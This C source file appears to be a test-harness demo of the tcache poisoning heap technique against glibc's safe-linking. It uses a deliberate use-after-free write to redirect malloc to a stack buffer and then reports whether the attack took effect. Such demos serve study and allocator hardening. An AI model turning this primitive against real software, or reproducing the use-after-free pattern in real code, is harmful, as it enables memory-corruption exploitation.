/* Technique: tcache poisoning (how2heap tcache_poisoning, with
   glibc 2.32+ safe-linking).

   Goal: malloc returns a chosen address (a 16-byte aligned stack
   buffer).

   How: two 0x90 chunks are freed into the tcache; a use-after-free
   write replaces the next pointer of the bin's head (b) with the
   target, mangled as PROTECT_PTR (&b->next, target).  The first malloc
   returns b, the second the target.  */
#include "attack.h"

int
main (void)
{
  attack_init ("tcache_poisoning: use-after-free write of a tcache next pointer");
  _Alignas (16) size_t target[8] = { 0 };
  size_t *a = malloc (128);
  size_t *b = malloc (128);
  say ("a %p b %p target %p", a, b, target);
  free (a);
  free (b);
  b[0] = PROTECT_PTR (&b[0], target);	/* use after free */
  void *x = malloc (128);
  void *y = malloc (128);
  say ("malloc (128) = %p, then %p", x, y);
  if (y == (void *) target)
    reached ("malloc returned the stack target %p", y);
  no_effect ("malloc returned %p and %p, not the target %p", x, y, target);
}
